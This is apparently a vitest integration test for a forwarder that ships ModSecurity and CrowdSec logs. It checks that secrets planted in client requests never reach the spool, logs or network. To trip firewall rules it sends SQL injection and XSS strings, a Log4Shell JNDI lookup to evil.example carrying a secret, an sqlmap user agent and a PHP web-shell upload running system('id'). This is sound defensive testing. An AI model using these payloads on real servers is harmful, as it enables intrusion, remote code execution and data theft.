import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { ShieldEvent } from '../../src/contract/shield-events.ts';
import type { SiteRequest } from '../support/attacks.ts';
import { authorizedSource } from '../support/authorized-source.ts';
import { accessLog, hasCrowdsec, startCrowdsec } from '../support/crowdsec.ts';
import { expectAbsent } from '../support/expect-absent.ts';
import {
  hasModsecurity2,
  hasModsecurity3,
  send,
  startModsecurity2,
  startModsecurity3,
} from '../support/firewalls.ts';
import { poll } from '../support/poll.ts';
import { type SharedService, sharedService } from '../support/service.ts';
import { ForwarderHome, startForwarder } from '../support/shield-forwarder.ts';
import { Tap } from '../support/tap.ts';

const host = 'www.example.com';

let service: SharedService;
beforeAll(async () => {
  service = await sharedService();
});

const running: (() => unknown)[] = [];
afterEach(async () => {
  for (const stop of running.splice(0).reverse()) await stop();
});

/** A secret whose end appears nowhere else, and whose start is written differently in URLs, JSON and HTML. */
class Secret {
  readonly core = `S3cr3t${randomBytes(8).toString('hex')}Q`;
  readonly text: string;

  constructor(start = `p4"<s&'>`) {
    this.text = `${start}${this.core}`;
  }

  get inUrl(): string {
    return encodeURIComponent(this.text).replaceAll("'", '%27');
  }
}

type Planted = Pick<Secret, 'text' | 'core'>;

const filesOf = ({ spool }: ForwarderHome, pattern: RegExp) =>
  readdirSync(spool)
    .filter(name => pattern.test(name))
    .map(name => readFileSync(join(spool, name), 'utf8'));

/** Bytes of the log of which everything is in the spool. */
const bytesIn = (home: ForwarderHome): number =>
  filesOf(home, /^state-.*\.json$/).map(text => JSON.parse(text).state.position?.offset ?? 0)[0] ?? 0;

const heartbeatsIn = (home: ForwarderHome): number =>
  filesOf(home, /^events-/).flatMap(text => text.match(/"shield\.heartbeat"/g) ?? []).length;

/** Forwards while the service does not answer, until everything is in the spool. @returns what the forwarder logged */
async function spoolAll(home: ForwarderHome, isComplete: () => boolean): Promise<string> {
  let logged = '';
  while (!isComplete()) {
    const [read, reported] = [bytesIn(home), heartbeatsIn(home)];
    const forwarder = startForwarder(home);
    running.push(() => forwarder.end('SIGKILL'));
    await poll('something to be read', () => heartbeatsIn(home) > reported);
    // Stores what was read, and then waits for the service.
    forwarder.child.kill('SIGTERM');
    await poll('what was read to be stored', () => isComplete() || bytesIn(home) > read);
    await forwarder.end('SIGKILL');
    logged += `${forwarder.output.join('\n')}${forwarder.errors}`;
  }
  return logged;
}

/**
 * Forwards while the service does not answer, and again when it does, and expects that no secret is in a file of the spool, in the log of
 * the forwarder, or in any byte that it sent.
 *
 * @param isComplete whether everything is in the spool
 * @returns the events that the service stored
 */
async function expectKept(
  settings: readonly string[],
  secrets: readonly Planted[],
  isComplete: (home: ForwarderHome) => boolean,
): Promise<ShieldEvent[]> {
  const { organizationId, systemId, store } = await authorizedSource(service);
  const tap = await Tap.start(service.url);
  running.push(() => tap.close());
  const key = await service.mint(organizationId, { kind: 'probe', systemId });
  const home = new ForwarderHome({ url: tap.url, key, settings });
  running.push(() => home.remove());
  tap.isOpen = false;
  const logged = await spoolAll(home, () => isComplete(home));
  const spooled = home.spooled();
  tap.isOpen = true;
  const sending = startForwarder(home);
  running.push(() => sending.end('SIGKILL'));
  await sending.logs('events.sent');
  expect(await sending.end('SIGTERM')).toBe(0);
  const stored = await store.queryOnce<{ payload: ShieldEvent }>({ text: 'select payload from events' });

  const authorization = `authorization: Bearer ${key.token}\r\n`.toLowerCase();
  const sent = tap.sent.toLowerCase();
  expect(sent).toContain(authorization);
  // The rest can be read: it is neither compressed nor encrypted.
  for (const { payload } of stored) expect(sent).toContain(payload.id);
  const own = [key.token, key.signing_key].map(text => ({ text, core: text }));
  expectAbsent(
    [...secrets, ...own].flatMap(({ text, core }) => [text, core]),
    {
      sent: sent.replaceAll(authorization, ''),
      spooled: `${spooled}${home.spooled()}`,
      logged: `${logged}${sending.output.join('\n')}${sending.errors}`,
    },
  );
  return stored.map(({ payload }) => payload);
}

const attack = "' OR 1=1-- <script>alert(1)</script>";
const attackInUrl = encodeURIComponent(attack).replaceAll("'", '%27');

/** Requests that rules deny, with a secret in each place where a client can put one. */
function plantedRequests() {
  const secret = {
    ...{
      query: new Secret(),
      name: new Secret(),
      form: new Secret(),
      json: new Secret(),
      jsonName: new Secret(),
    },
    ...{ cookie: new Secret("p4<s&'>"), bearer: new Secret(), basic: new Secret(), digest: new Secret() },
    ...{ header: new Secret(), agent: new Secret(), referer: new Secret(), origin: new Secret('p4') },
    ...{ path: new Secret(), token: new Secret('p4'), fragment: new Secret(), forwarded: new Secret('p4') },
    ...{
      field: new Secret(),
      fieldName: new Secret("p4<s&'>"),
      fileName: new Secret("p4<s&'>"),
      file: new Secret(),
    },
    ...{ xml: new Secret('p4'), type: new Secret('p4'), host: new Secret('p4.') },
    method: { text: 'PSECRETXQZKWJVYBHMETHOD', core: 'PSECRETXQZKWJVYBH' },
  };
  const post = (type: string, body: string, headers = {}): SiteRequest => ({
    ...{ method: 'POST', path: `/contact?q=${attackInUrl}`, body },
    headers: { 'content-type': type, ...headers },
  });
  const get = (path: string, headers: Record<string, string> = {}): SiteRequest => ({
    method: 'GET',
    path,
    headers,
  });
  const basic = Buffer.from(`alex:${secret.basic.text}`).toString('base64');
  const part = (head: string, text: string) =>
    `--limit\r\nContent-Disposition: form-data; ${head}\r\n\r\n${text}\r\n`;
  const attacked = (header: string, value: string) => get(`/?q=${attackInUrl}`, { [header]: value });
  const requests = [
    get(`/search?q=${secret.query.inUrl}${attackInUrl}`),
    get(`/search?${secret.name.inUrl}${attackInUrl}=1`),
    get(
      `/reset/${secret.token.text}/${secret.path.inUrl}${encodeURIComponent('<script>alert(1)')}?q=${attackInUrl}`,
    ),
    get(`/search?q=${attackInUrl}%23${secret.fragment.inUrl}`),
    attacked('cookie', `session=${secret.cookie.text}${attackInUrl}; theme=dark`),
    attacked('authorization', `Bearer ${secret.bearer.text}`),
    attacked('authorization', `Basic ${basic}`),
    attacked('proxy-authorization', `Digest username="${secret.digest.text}"`),
    attacked('x-api-version', `\u0024{jndi:ldap://evil.example/${secret.header.text}}`),
    attacked('user-agent', `sqlmap ${secret.agent.text}`),
    attacked('referer', `http://www.example.com/?token=${secret.referer.text}${attack}`),
    attacked('origin', `http://${secret.origin.text}.example`),
    attacked('x-forwarded-for', `192.0.2.7, ${secret.forwarded.text}`),
    { ...get(`/?q=${attackInUrl}`), method: secret.method.text },
    post('application/x-www-form-urlencoded', `password=${secret.form.inUrl}${attackInUrl}`),
    post(
      'application/json',
      JSON.stringify({ password: `${secret.json.text}${attack}`, [secret.jsonName.text]: 1 }),
    ),
    attacked('host', secret.host.text),
    post('text/xml', `<login><password>${secret.xml.text}</password></login>`),
    post(`application/${secret.type.text}`, 'a=b'),
    post(
      'multipart/form-data; boundary=limit',
      `${part(`name="${secret.fieldName.text}"`, `${secret.field.text}${attack}`)}${part(
        `name="file"; filename="${secret.fileName.text}.php"`,
        `<?php ${secret.file.text} system("id"); ?>`,
      )}--limit--\r\n`,
    ),
  ];
  return { requests, secrets: { ...secret, encodedBasic: { text: basic, core: basic } } };
}

const firewalls = [
  ['modsecurity3', hasModsecurity3(), startModsecurity3],
  ['modsecurity2', hasModsecurity2(), startModsecurity2],
] as const;

describe.each(firewalls)('%s', (engine, isInstalled, start) => {
  it.runIf(isInstalled)('sends, stores and logs nothing that clients planted', async () => {
    // All that it can log about requests.
    const site = await start({ parts: 'ABCEFHIJZ' });
    running.push(() => site.close());
    const { requests, secrets } = plantedRequests();
    const { passed } = await send(site.port, requests, host);
    expect(passed).toBe(0);
    await site.logged();
    const log = readFileSync(site.auditLog, 'latin1').toLowerCase();
    // The firewall logged them all: those of basic authentication as they were sent.
    const unlogged = Object.entries(secrets).filter(([, { core }]) => !log.includes(core.toLowerCase()));
    expect(unlogged.map(([place]) => place)).toEqual(['basic']);
    const settings = [`hosts: [${host}]`, 'logs:', `  - engine: ${engine}`, `    path: ${site.auditLog}`];
    const events = await expectKept(settings, Object.values(secrets), home => bytesIn(home) === log.length);
    const groups = events.flatMap(event => (event.kind === 'shield.requests' ? event.groups : []));
    expect(groups.reduce((sum, { count }) => sum + count, 0)).toBe(requests.length);
  });
});

it.runIf(hasCrowdsec())('sends, stores and logs nothing of CrowdSec that people wrote', async () => {
  const crowdsec = await startCrowdsec();
  running.push(() => crowdsec.close());
  const start = "p4<s&'>";
  const secrets = {
    ...{
      path: new Secret(start),
      query: new Secret(start),
      agent: new Secret(start),
      referrer: new Secret(start),
    },
    // CrowdSec reads no line whose user has digits.
    user: { text: 'SecretUserWithoutDigits', core: 'SecretUserWithoutDigits' },
    ...{
      reason: new Secret(start),
      type: new Secret(start),
      scope: new Secret(start),
      value: new Secret(start),
    },
  };
  // As if it were the name of a scenario.
  const named = new Secret('acme/');
  await crowdsec.replay(
    accessLog(
      Array.from({ length: 40 }, (_, index) => ({
        client: '203.0.113.5',
        path: `/${secrets.path.inUrl}/${index}?token=${secrets.query.inUrl}`,
        user: secrets.user.text,
        referrer: `https://www.example.com/?token=${secrets.referrer.text}`,
        agent: secrets.agent.text,
      })),
    ),
  );
  const add = (...of: string[]) => crowdsec.cscli('decisions', 'add', ...of);
  await add('--ip', '192.0.2.77', '--reason', secrets.reason.text, '--type', secrets.type.text);
  await add('--ip', '192.0.2.78', '--reason', named.text);
  await add('--scope', secrets.scope.text, '--value', secrets.value.text, '--reason', named.text);
  const login = [crowdsec.machine.password, crowdsec.bouncerKey].map(text => ({ text, core: text }));
  const planted = [...Object.values(secrets), named];
  const known = JSON.stringify([
    await crowdsec.cscli('alerts', 'list'),
    await crowdsec.cscli('decisions', 'list'),
  ]);
  const unknown = Object.entries({ ...secrets, named }).filter(([, { core }]) => !known.includes(core));
  // It does not tell these.
  expect(unknown.map(([name]) => name)).toEqual(['referrer', 'user']);
  const events = await expectKept(ForwarderHome.crowdsec(crowdsec), [...planted, ...login], home =>
    home.spooled().includes('"shield.decisions"'),
  );
  const alerts = events.flatMap(event => (event.kind === 'shield.alerts' ? event.alerts : []));
  expect(alerts.map(({ scenario }) => scenario)).toEqual([
    'crowdsecurity/http-probing',
    ...['other', 'other', 'other'],
  ]);
});
